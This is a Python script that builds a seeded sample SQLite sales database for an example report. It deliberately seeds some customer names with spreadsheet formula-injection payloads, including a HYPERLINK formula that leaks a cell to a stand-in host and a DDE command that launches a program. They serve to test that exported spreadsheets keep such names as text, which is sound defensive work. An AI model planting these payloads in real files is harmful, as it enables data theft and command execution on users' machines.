"""Build the sample sales database that `examples/sales-report.yaml` reads.

Why generated, not committed: a 60,000-order SQLite file is megabytes of binary; this script
makes the same file every time (seeded random), in about a second.

    python examples/data/make_sales_db.py [--rows 60000] [--out examples/data/sales.db] [--force]

Tables: regions, products, customers, orders. SQLite has no DECIMAL or DATE type, so money is
stored as exact decimal TEXT ("1234.50"), dates as ISO TEXT ("2024-03-01") and timestamps as ISO
TEXT ("2024-03-01 14:05:09"); the report's queries say how to read them (`AS "amount
[decimal]"`). Some values are NULL (e-mail, discount, note), and a few customer names start with
`=`, `+`, `-` or `@` to show that generated spreadsheets keep them as text (formula injection).
An existing file is kept unless --force is given; a new file appears atomically.
"""
from __future__ import annotations

import argparse
import datetime as dt
import os
import random
import sqlite3
import sys
from decimal import Decimal
from pathlib import Path

SEED = 20240601
DEFAULT_OUT = Path(__file__).resolve().parent / "sales.db"
FIRST_DAY = dt.date(2023, 1, 1)
DAYS = 731  # two years: 2023-01-01 .. 2024-12-31
CENT = Decimal("0.01")

REGIONS = [("EU", "Europe"), ("NA", "North America"), ("APAC", "Asia Pacific"),
           ("LATAM", "Latin America"), ("MEA", "Middle East & Africa")]
CATEGORIES = ["Hardware", "Software", "Services", "Training", "Support"]
ADJECTIVES = ["Blue", "Rapid", "Quiet", "Bright", "Solid", "Nimble", "Grand", "Clever", "Prime",
              "Silver", "Northern", "Urban"]
NOUNS = ["Widgets", "Systems", "Labs", "Works", "Partners", "Traders", "Foods", "Logistics",
         "Design", "Energy", "Health", "Media"]
SUFFIXES = ["Ltd", "GmbH", "Inc", "SA", "BV", "Pty", "KK", "LLC"]
# Names that a spreadsheet would run as formulas if written carelessly.
HOSTILE_NAMES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click for invoice")',
                 "=1+2", "+49 Trading GmbH", "-Minus Corp", "@Home Supplies",
                 "=cmd|' /C calc'!A0"]
STATUSES = ["paid"] * 8 + ["refunded", "cancelled"]

SCHEMA = """
CREATE TABLE regions (
    id INTEGER PRIMARY KEY, code TEXT NOT NULL UNIQUE, name TEXT NOT NULL);
CREATE TABLE products (
    id INTEGER PRIMARY KEY, sku TEXT NOT NULL UNIQUE, name TEXT NOT NULL,
    category TEXT NOT NULL,
    unit_price TEXT NOT NULL);              -- exact decimal text, e.g. '129.90'
CREATE TABLE customers (
    id INTEGER PRIMARY KEY, name TEXT NOT NULL, email TEXT,  -- NULL for some
    region_id INTEGER NOT NULL REFERENCES regions(id), segment TEXT NOT NULL,
    created_at TEXT NOT NULL);              -- 'YYYY-MM-DD HH:MM:SS'
CREATE TABLE orders (
    id INTEGER PRIMARY KEY,
    customer_id INTEGER NOT NULL REFERENCES customers(id),
    product_id INTEGER NOT NULL REFERENCES products(id),
    order_date TEXT NOT NULL,               -- 'YYYY-MM-DD'
    quantity INTEGER NOT NULL,
    unit_price TEXT NOT NULL,               -- exact decimal text
    discount REAL,                          -- fraction, NULL when none
    amount TEXT NOT NULL,                   -- quantity * unit_price * (1 - discount), 2 places
    status TEXT NOT NULL,
    created_at TEXT NOT NULL,               -- 'YYYY-MM-DD HH:MM:SS'
    note TEXT);                             -- NULL for most
CREATE INDEX orders_customer ON orders(customer_id);
CREATE INDEX orders_date ON orders(order_date);
"""


def _customers(rng: random.Random, count: int) -> list[tuple[object, ...]]:
    hostile = {count * (k + 1) // (len(HOSTILE_NAMES) + 1): name
               for k, name in enumerate(HOSTILE_NAMES)}
    rows = []
    for i in range(1, count + 1):
        name = f"{rng.choice(ADJECTIVES)} {rng.choice(NOUNS)} {rng.choice(SUFFIXES)}"
        name = hostile.get(i, name)
        email = None if rng.random() < 0.05 else f"buyer{i}@customer{i % 97}.example"
        created = dt.datetime(2022, 1, 1) + dt.timedelta(seconds=rng.randrange(365 * 86400))
        rows.append((i, name, email, rng.randint(1, len(REGIONS)),
                     rng.choice(["enterprise", "mid-market", "small business"]),
                     created.isoformat(sep=" ")))
    return rows


def _orders(rng: random.Random, count: int, customers: int,
            prices: list[Decimal]) -> list[tuple[object, ...]]:
    rows = []
    for i in range(1, count + 1):
        product = rng.randrange(len(prices))
        price = prices[product]
        quantity = rng.choice([1, 1, 1, 2, 2, 3, 5, 10])
        discount = None if rng.random() < 0.7 else rng.choice([0.05, 0.1, 0.15, 0.2])
        amount = (price * quantity * (1 - Decimal(str(discount or 0)))).quantize(CENT)
        day = FIRST_DAY + dt.timedelta(days=rng.randrange(DAYS))
        created = dt.datetime.combine(day, dt.time()) + dt.timedelta(seconds=rng.randrange(86400))
        note = None if rng.random() < 0.9 else rng.choice(["gift wrap", "rush", "call first",
                                                            "<b>urgent</b> & fragile"])
        rows.append((i, rng.randint(1, customers), product + 1, day.isoformat(), quantity,
                     str(price), discount, str(amount), rng.choice(STATUSES),
                     created.isoformat(sep=" "), note))
    return rows


def build(out: Path, rows: int = 60_000, seed: int = SEED) -> Path:
    """Write the database to `out` (replacing it atomically); the same arguments give the same
    content."""
    rng = random.Random(seed)
    out.parent.mkdir(parents=True, exist_ok=True)
    tmp = out.with_name(f".{out.name}.tmp-{os.getpid()}")
    tmp.unlink(missing_ok=True)
    try:
        conn = sqlite3.connect(tmp, isolation_level=None)
        try:
            conn.execute("PRAGMA journal_mode = OFF")
            conn.execute("PRAGMA synchronous = OFF")
            conn.executescript(SCHEMA)
            conn.execute("BEGIN")
            conn.executemany("INSERT INTO regions VALUES (?, ?, ?)",
                             [(i, code, name) for i, (code, name) in enumerate(REGIONS, 1)])
            prices = [Decimal(rng.randint(199, 149_999)) / 100 for _ in range(40)]
            conn.executemany(
                "INSERT INTO products VALUES (?, ?, ?, ?, ?)",
                [(i, f"SKU-{i:04d}", f"{rng.choice(ADJECTIVES)} {rng.choice(CATEGORIES)} {i}",
                  rng.choice(CATEGORIES), str(p)) for i, p in enumerate(prices, 1)])
            customers = max(len(HOSTILE_NAMES) * 2, min(2_000, rows // 10 or 1))
            conn.executemany("INSERT INTO customers VALUES (?, ?, ?, ?, ?, ?)",
                             _customers(rng, customers))
            conn.executemany("INSERT INTO orders VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                             _orders(rng, rows, customers, prices))
            conn.execute("COMMIT")
        finally:
            conn.close()
        os.replace(tmp, out)
    finally:
        tmp.unlink(missing_ok=True)
    return out


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rows", type=int, default=60_000, help="number of orders (default 60000)")
    ap.add_argument("--out", type=Path, default=DEFAULT_OUT, help=f"default {DEFAULT_OUT}")
    ap.add_argument("--seed", type=int, default=SEED)
    ap.add_argument("--force", action="store_true", help="rebuild an existing file")
    args = ap.parse_args(argv)
    if args.rows < 1:
        ap.error("--rows must be at least 1")
    if args.out.exists() and not args.force:
        print(f"{args.out} exists; keeping it (use --force to rebuild)")
        return 0
    build(args.out, args.rows, args.seed)
    print(f"wrote {args.out} with {args.rows} orders")
    return 0


if __name__ == "__main__":
    sys.exit(main())
